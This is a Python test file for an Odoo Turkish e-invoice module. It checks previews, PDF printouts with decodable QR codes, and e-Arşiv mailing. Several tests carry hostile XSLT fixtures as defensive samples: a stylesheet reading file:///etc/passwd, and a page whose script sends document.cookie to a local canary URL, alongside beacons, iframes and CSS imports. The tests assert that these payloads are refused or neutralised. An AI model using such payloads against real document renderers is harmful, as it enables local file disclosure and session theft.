"""Printouts and previews in Odoo: a received document through its (safe) stylesheet or ours, the
GİB printout through Odoo's report engine and wkhtmltopdf with a Karekod that decodes, and the
e-Arşiv PDF e-mailed when the company delivers e-Arşiv itself."""

import io
import threading
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import lxml.html
from pypdf import PdfReader

from odoo.exceptions import UserError
from odoo.tests import tagged

from ..core.documents import Attachment
from ..core.qr import qr_payload, qr_text
from ..core.render import xslt_attachment
from ..core.tests import factories
from ..core.tests.render_helpers import decode_qr, pdf_pages, qr_from_html
from ..core.ubl import build_application_response, build_despatch_advice, build_invoice, serialize
from .common import L10nTrEdocCase

HOSTILE_XSLT = (
    b'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
    b'<xsl:template match="/"><html><body><pre><xsl:value-of select="document(\'file:///etc/passwd\')"/>'
    b"</pre></body></html></xsl:template></xsl:stylesheet>"
)
SENDER_XSLT = (
    b'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
    b'<xsl:template match="/"><html><body><h1 id="sender-own">Sender layout</h1>'
    b'<script>alert(1)</script><img src="http://192.0.2.1/track.png"/></body></html>'
    b"</xsl:template></xsl:stylesheet>"
)
REPORT = "l10n_tr_edoc.action_report_l10n_tr_edoc_document"


def _hostile_printout_xslt(canary):
    """A sender's page that tries every way out: unescaped markup, scripts, remote images, CSS and
    frames all pointing at ``canary``, and a script that would stamp the page if it ran."""
    raw = (
        f'<script>document.write("SCRIPT-RAN");fetch("{canary}/fetch?c="+document.cookie);'
        f'new Image().src="{canary}/beacon";</script>'
        f'<img src="{canary}/img"/><iframe src="{canary}/frame"></iframe>'
        f'<link rel="stylesheet" href="{canary}/css"/><object data="{canary}/object"></object>'
        f"<style>@import url({canary}/import.css); body{{background:url({canary}/bg)}}</style>"
        f"<p style=\"background-image:image-set('{canary}/set' 1x)\">styled</p>"
    )
    escaped = raw.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return (
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
        '<xsl:template match="/"><html><body><h1>SENDER-LAYOUT</h1>'
        f'<xsl:text disable-output-escaping="yes">{escaped}</xsl:text></body></html>'
        f'<img src="{canary}/second-element"/></xsl:template></xsl:stylesheet>'
    ).encode()


class _Canary(BaseHTTPRequestHandler):
    def _record(self):
        self.server.seen.append(f"{self.command} {self.path}")
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_POST = do_CONNECT = do_HEAD = _record

    def log_message(self, *args):
        """Quiet: what arrived is asserted, not logged."""


@tagged("post_install", "-at_install", "post_install_l10n")
class TestL10nTrEdocRender(L10nTrEdocCase):
    def _document(self, xml, *, kind="einvoice", direction="out", uuid, **values):
        document = self.env["l10n_tr_edoc.document"].create(
            {"uuid": uuid, "kind": kind, "direction": direction, "account_id": self.edoc_account.id, **values}
        )
        document.xml_attachment_id = self.env["ir.attachment"].create(
            {
                "name": f"{uuid}.xml",
                "raw": xml,
                "res_model": document._name,
                "res_id": document.id,
                "mimetype": "application/xml",
            }
        )
        return document

    def _sent(self, document):
        for event in ("generate", "submit", "accepted"):
            document._l10n_tr_edoc_apply_event(event)
        return document

    def _pdf(self, document):
        pdf, report_type = (
            self.env["ir.actions.report"]
            .with_context(force_report_rendering=True)
            ._render_qweb_pdf(REPORT, document.ids)
        )
        self.assertEqual(report_type, "pdf")
        return pdf

    def test_hostile_embedded_stylesheet_is_refused_and_ours_shown_with_the_reason(self):
        invoice = factories.invoice(
            profile="TICARIFATURA", xslt=Attachment(content=HOSTILE_XSLT, filename="evil.xslt")
        )
        document = self._document(serialize(build_invoice(invoice)), direction="in", uuid=invoice.uuid)
        self.assertEqual(document.render_template, "ours")
        self.assertIn("refused", document.render_note)
        self.assertIn("document()", document.render_note)
        self.assertNotIn("root:", document.preview_html)
        self.assertEqual(qr_from_html(document.preview_html), qr_text(qr_payload(invoice)))

    def test_safe_embedded_stylesheet_is_used_and_sanitised(self):
        invoice = factories.invoice(xslt=Attachment(content=SENDER_XSLT, filename="own.xslt"))
        document = self._document(serialize(build_invoice(invoice)), direction="in", uuid=invoice.uuid)
        self.assertEqual(document.render_template, "embedded")
        page = lxml.html.fromstring(document.preview_html)
        self.assertTrue(page.xpath("//h1[@id='sender-own']"))
        self.assertFalse(page.xpath("//script | //img[@src]"))

    def test_outgoing_documents_preview_ours_with_a_decodable_qr(self):
        """Every profile family, e-Arşiv and a despatch advice: the preview is ours and its QR decodes."""
        for kind, document_data, builder in (
            ("einvoice", factories.invoice(profile="TICARIFATURA"), build_invoice),
            ("einvoice", factories.invoice(profile="TEMELFATURA", type_code="IADE", number=2), build_invoice),
            ("earchive", factories.invoice(profile="EARSIVFATURA", number=3), build_invoice),
            ("despatch", factories.despatch_advice(), build_despatch_advice),
        ):
            with self.subTest(kind=kind, profile=document_data.profile_id):
                xml = serialize(builder(replace(document_data, xslt=xslt_attachment(document_data))))
                document = self._document(xml, kind=kind, uuid=document_data.uuid)
                self.assertEqual(document.render_template, "ours")
                self.assertEqual(qr_from_html(document.preview_html), qr_text(qr_payload(document_data)))

    def test_response_has_no_printout_but_says_why(self):
        response = factories.application_response()
        document = self._document(
            serialize(build_application_response(response)), kind="app_response", uuid=response.uuid
        )
        self.assertFalse(document.preview_html)
        self.assertIn("cannot be displayed", document.render_note)
        with self.assertRaises(UserError):
            document.action_l10n_tr_edoc_print()

    def test_printout_pdf_from_the_report_engine_has_a_decodable_qr_and_is_kept(self):
        invoice = factories.invoice(profile="TICARIFATURA")
        document = self._sent(self._document(serialize(build_invoice(invoice)), uuid=invoice.uuid))
        pdf = self._pdf(document)
        self.assertTrue(pdf.startswith(b"%PDF"))
        pages = pdf_pages(pdf)
        self.assertTrue(pages, "the printout has no page")
        self.assertEqual(decode_qr(pages[0]), qr_text(qr_payload(invoice)))
        self.assertEqual(document.pdf_attachment_id.raw, pdf)
        self.assertEqual(self._pdf(document), pdf, "a kept printout is reprinted as it was")

    def test_draft_printout_is_not_kept(self):
        advice = factories.despatch_advice()
        document = self._document(serialize(build_despatch_advice(advice)), kind="despatch", uuid=advice.uuid)
        pages = pdf_pages(self._pdf(document))
        self.assertEqual(decode_qr(pages[0]), qr_text(qr_payload(advice)))
        self.assertFalse(document.pdf_attachment_id)

    def test_print_buttons_on_document_move_and_picking(self):
        invoice, advice = factories.invoice(), factories.despatch_advice()
        move = self.env["account.move"].create({"move_type": "out_invoice", "partner_id": self.partner_a.id})
        warehouse = self.env["stock.warehouse"].search([("company_id", "=", self.company.id)], limit=1)
        picking = self.env["stock.picking"].create(
            {"picking_type_id": warehouse.out_type_id.id, "partner_id": self.partner_a.id}
        )
        printed = self._document(serialize(build_invoice(invoice)), uuid=invoice.uuid, move_id=move.id)
        shipped = self._document(
            serialize(build_despatch_advice(advice)), kind="despatch", uuid=advice.uuid, picking_id=picking.id
        )
        for action, document in (
            (printed.action_l10n_tr_edoc_print(), printed),
            (move.action_l10n_tr_edoc_print(), printed),
            (picking.action_l10n_tr_edoc_print(), shipped),
        ):
            self.assertEqual(action["type"], "ir.actions.report")
            self.assertEqual(action["report_name"], "l10n_tr_edoc.report_l10n_tr_edoc_document")
            self.assertEqual(action["context"]["active_ids"], document.ids)

    def test_preview_action_from_xml_bytes(self):
        advice = factories.despatch_advice(number=7)
        action = self.env["l10n_tr_edoc.document"]._l10n_tr_edoc_preview_action(
            serialize(build_despatch_advice(advice))
        )
        self.assertEqual((action["res_model"], action["target"]), ("l10n_tr_edoc.preview", "new"))
        preview = self.env["l10n_tr_edoc.preview"].browse(action["res_id"])
        self.assertEqual(preview.render_template, "ours")
        self.assertEqual(qr_from_html(preview.preview_html), qr_text(qr_payload(advice)))
        with self.assertRaises(UserError):
            self.env["l10n_tr_edoc.document"]._l10n_tr_edoc_preview_action(b"<not-ubl/>")

    def test_earchive_pdf_is_mailed_to_the_customer_when_odoo_delivers(self):
        self.company.l10n_tr_edoc_earchive_delivery = "odoo"
        invoice = factories.invoice(profile="EARSIVFATURA", number=9)
        move = self.env["account.move"].create({"move_type": "out_invoice", "partner_id": self.partner_a.id})
        document = self._document(
            serialize(build_invoice(invoice)),
            kind="earchive",
            uuid=invoice.uuid,
            move_id=move.id,
            name=invoice.id,
        )
        with self.assertRaises(UserError):
            document._l10n_tr_edoc_mail_earchive_pdf()
        self._sent(document)
        self.partner_a.email = False
        document.with_context(force_report_rendering=True)._l10n_tr_edoc_mail_earchive_pdf()
        self.assertEqual(document.activity_ids.summary, "Deliver the e-Arşiv invoice")
        self.partner_a.email = "musteri@example.com"
        document.with_context(force_report_rendering=True)._l10n_tr_edoc_mail_earchive_pdf()
        mail = self.env["mail.mail"].search([("mail_message_id", "in", document.message_ids.ids)])
        self.assertEqual(len(mail), 1)
        self.assertEqual(mail.state, "outgoing")
        self.assertIn(self.partner_a, mail.recipient_ids)
        self.assertIn(invoice.id, mail.subject)
        self.assertEqual(mail.attachment_ids.mimetype, "application/pdf")
        pages = pdf_pages(mail.attachment_ids.raw)
        self.assertEqual(decode_qr(pages[0]), qr_text(qr_payload(invoice)))

    def _canary(self):
        server = ThreadingHTTPServer(("127.0.0.1", 0), _Canary)
        server.seen = []
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        self.addCleanup(thread.join)
        self.addCleanup(server.server_close)
        self.addCleanup(server.shutdown)
        return server, f"http://127.0.0.1:{server.server_address[1]}"

    def test_printout_of_hostile_received_invoice_runs_no_script_and_makes_no_request(self):
        """The sender's page is printed by the locked-down wkhtmltopdf run, not Odoo's report engine:
        nothing it carries runs, and a canary on 127.0.0.1 hears nothing."""
        server, canary = self._canary()
        invoice = factories.invoice(
            xslt=Attachment(content=_hostile_printout_xslt(canary), filename="evil.xslt")
        )
        document = self._document(serialize(build_invoice(invoice)), direction="in", uuid=invoice.uuid)
        self.assertEqual(document.render_template, "embedded")
        pdf = self._pdf(document)
        text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)
        self.assertIn("SENDER-LAYOUT", text, "the sender's layout is what is printed")
        self.assertNotIn("SCRIPT-RAN", text)
        self.assertEqual(server.seen, [])
        self.assertFalse(document.pdf_attachment_id, "a received document's printout is not kept")
        html = document.preview_html
        for marker in ("<script", "<iframe", "<object", "<link", canary, "url(", "image-set"):
            self.assertNotIn(marker, html)

    def test_report_engine_never_serves_sender_markup(self):
        """``/report/html`` and Odoo's wkhtmltopdf run get our template only, so no session-carrying
        renderer ever sees a sender's markup."""
        _server, canary = self._canary()
        invoice = factories.invoice(
            xslt=Attachment(content=_hostile_printout_xslt(canary), filename="evil.xslt")
        )
        document = self._document(serialize(build_invoice(invoice)), direction="in", uuid=invoice.uuid)
        html, _type = self.env["ir.actions.report"]._render_qweb_html(REPORT, document.ids)
        html = html.decode()
        self.assertNotIn("SENDER-LAYOUT", html)
        self.assertNotIn(canary, html)
        self.assertIn(invoice.uuid, html)

    def test_sender_markup_is_only_shown_in_a_sandboxed_frame(self):
        for model in ("l10n_tr_edoc.document", "l10n_tr_edoc.preview"):
            arch = self.env[model].get_view(view_type="form")["arch"]
            fields = lxml.html.fromstring(arch).xpath("//field[@name='preview_html']")
            self.assertTrue(fields)
            for field in fields:
                self.assertIn("'sandboxedPreview': true", field.get("options"))

    def test_runaway_stylesheet_ends_in_our_template_with_a_translatable_reason(self):
        endless = (
            b'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
            b'<xsl:template match="/"><html><body><xsl:call-template name="t"/></body></html></xsl:template>'
            b'<xsl:template name="t"><xsl:call-template name="t"/></xsl:template></xsl:stylesheet>'
        )
        invoice = factories.invoice(xslt=Attachment(content=endless, filename="loop.xslt"))
        document = self._document(serialize(build_invoice(invoice)), direction="in", uuid=invoice.uuid)
        self.assertEqual(document.render_template, "ours")
        self.assertIn("could not be rendered", document.render_note)
        self.assertEqual(qr_from_html(document.preview_html), qr_text(qr_payload(invoice)))
        self.env["res.lang"]._activate_lang("tr_TR")
        tr = document.with_context(lang="tr_TR")
        tr.invalidate_recordset(["render_note"])
        self.assertIn("Göndericinin stil şablonu", tr.render_note)
